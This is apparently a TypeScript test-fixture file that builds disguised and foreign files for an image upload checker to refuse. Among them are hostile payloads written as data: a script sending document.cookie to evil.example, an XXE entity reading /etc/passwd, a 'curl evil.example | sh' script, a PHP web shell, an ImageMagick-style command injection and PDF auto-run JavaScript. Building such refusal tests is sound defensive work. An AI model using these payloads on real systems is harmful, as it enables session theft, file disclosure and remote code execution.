import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { box, ftyp, joined, pngChunk, pngOf, text, u32, u32le } from './bytes.ts'
import type { Fixture } from './pictures.ts'
import { avif, jpeg, picture, png, SIZE } from './pictures.ts'
import { orientationOf } from './tiff.ts'

// Files that are no photo, whatever they call themselves.

export const SCRIPT = 'fetch("https://evil.example/"+document.cookie)'
const svg = (inside: string) =>
  text(`<svg xmlns="http://www.w3.org/2000/svg" width="96" height="72">${inside}</svg>`)
const entity = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>`

/** Returns a ZIP of one uncompressed file. */
export function zipOf(name: string, content: string): Buffer {
  const data = text(content)
  const sizes = joined(u32(0), u32le(data.length), u32le(data.length))
  const names = joined(Buffer.from([name.length, 0, 0, 0]), text(name))
  const local = joined(text('PK\u0003\u0004'), Buffer.alloc(10), sizes, names, data)
  const central = joined(
    text('PK\u0001\u0002'),
    Buffer.alloc(12),
    sizes,
    names.subarray(0, 4),
    Buffer.alloc(14),
    text(name),
  )
  const end = joined(
    text('PK\u0005\u0006'),
    Buffer.from([0, 0, 0, 0, 1, 0, 1, 0]),
    u32le(central.length),
    u32le(local.length),
    Buffer.alloc(2),
  )
  return joined(local, central, end)
}

export const PDF = text(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
)

const frames = () =>
  Promise.all([
    png(),
    picture({ ...SIZE }, 3)
      .png()
      .toBuffer(),
  ])
const animated = async () => sharp(await frames(), { join: { animated: true } })

/** A PNG that shows a second picture to those who know of it, and only the first to those who do not. */
async function apng(): Promise<Buffer> {
  const [first, second] = await frames()
  const pixels = (of: Buffer) => {
    const at = of.indexOf(text('IDAT'))
    return of.subarray(at + 4, at + 4 + of.readUInt32BE(at - 4))
  }
  const control = (sequence: number) =>
    pngChunk(
      'fcTL',
      joined(
        u32(sequence),
        u32(SIZE.width),
        u32(SIZE.height),
        u32(0),
        u32(0),
        Buffer.from([0, 1, 0, 10, 0, 0]),
      ),
    )
  const header = first.subarray(8, 8 + 25)
  return pngOf(
    header,
    pngChunk('acTL', joined(u32(2), u32(0))),
    control(0),
    pngChunk('IDAT', pixels(first)),
    control(1),
    pngChunk('fdAT', joined(u32(2), pixels(second))),
    pngChunk('IEND', Buffer.alloc(0)),
  )
}

/** The boxes of a photo by a phone that says HEIC, with nothing in them that could be decoded. */
const heic = () =>
  joined(
    ftyp('heic', 'mif1', 'heic'),
    box('meta', u32(0), box('hdlr', u32(0), u32(0), text('pict'), Buffer.alloc(13))),
    box('mdat', Buffer.alloc(500, 7)),
  )

/** An AVIF that says of itself it is a film. */
const avifSequence = async () => {
  const still = await avif()
  return joined(ftyp('avis', 'avis', 'msf1', 'miaf'), still.subarray(still.readUInt32BE(0)))
}

const bmp = joined(
  text('BM'),
  Buffer.from('4600000000000000360000002800000002000000020000000100180000000000', 'hex'),
  Buffer.alloc(32, 0x7f),
)
const ico = async () => {
  const small = await png({ width: 16, height: 16 })
  const sizes = joined(u32le(small.length), u32le(22))
  return joined(Buffer.from('00000100010010100000010020 00'.replace(' ', ''), 'hex'), sizes, small)
}

const elf = joined(Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(120, 0x90))
const exe = joined(
  text('MZ'),
  Buffer.alloc(58),
  Buffer.from('40000000', 'hex'),
  text('PE\0\0'),
  Buffer.alloc(99),
)

/** Returns files of other types, to refuse. */
export async function foreignFiles(): Promise<Fixture[]> {
  const moving = await animated()
  const file = (name: string, bytes: Buffer): Fixture => ({ name, bytes, must: 'be refused' })
  return [
    file('a drawing with a script', svg(`<script>${SCRIPT}</script>`)),
    file('a drawing that asks for a file of the server', joined(text(entity), svg('<text>&x;</text>'))),
    file(
      'a drawing behind white space and a comment',
      joined(text(`\uFEFF\n\n<!-- ${'x'.repeat(300)} -->`), svg('')),
    ),
    file('a packed drawing', gzipSync(svg(`<script>${SCRIPT}</script>`))),
    file('a drawing behind the first bytes of a JPEG', joined(Buffer.from('ffd8ffe0', 'hex'), svg(''))),
    file('a page', text(`<!doctype html><html><script>${SCRIPT}</script></html>`)),
    file('a script', text(`${SCRIPT};\n`)),
    file('a shell script', text('#!/bin/sh\ncurl evil.example | sh\n')),
    file('a PHP script', text('<?php system($_GET["c"]); ?>')),
    file(
      'orders for a drawing program',
      text('push graphic-context\nviewbox 0 0 9 9\nfill url(https://x"|id")\n'),
    ),
    file('a document', PDF),
    file('an archive', zipOf('a.html', `<script>${SCRIPT}</script>`)),
    file('a program for Linux', elf),
    file('a program for Windows', exe),
    file(
      'a film',
      joined(ftyp('isom', 'isom', 'mp42'), box('moov', Buffer.alloc(99)), box('mdat', Buffer.alloc(99))),
    ),
    file(
      'a film of another make',
      joined(Buffer.from('1a45dfa39f4286810142f7810142f281', 'hex'), text('webm')),
    ),
    file('a GIF', await picture().gif().toBuffer()),
    file('a GIF that moves', await moving.clone().gif().toBuffer()),
    file('a PNG that moves', await apng()),
    file('a WebP that moves', await moving.clone().webp().toBuffer()),
    file('an AVIF that moves', await avifSequence()),
    file('a TIFF', await picture().tiff().toBuffer()),
    file('a TIFF of nothing but facts', orientationOf(6)),
    file('a BMP', bmp),
    file('an icon', await ico()),
    file('a HEIC of a phone', heic()),
    file('a JPEG XL', joined(Buffer.from('ff0a', 'hex'), Buffer.alloc(60, 3))),
    file('a JPEG 2000', joined(Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(60))),
    file('a portable pixmap', joined(text('P6 2 2 255\n'), Buffer.alloc(12, 99))),
    file('a picture of a layered kind', joined(text('8BPS'), Buffer.from('0001', 'hex'), Buffer.alloc(80))),
    file('noise', Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 2_654_435_761) & 0xff))),
    file('a small picture in words', text((await jpeg()).toString('base64'))),
  ]
}
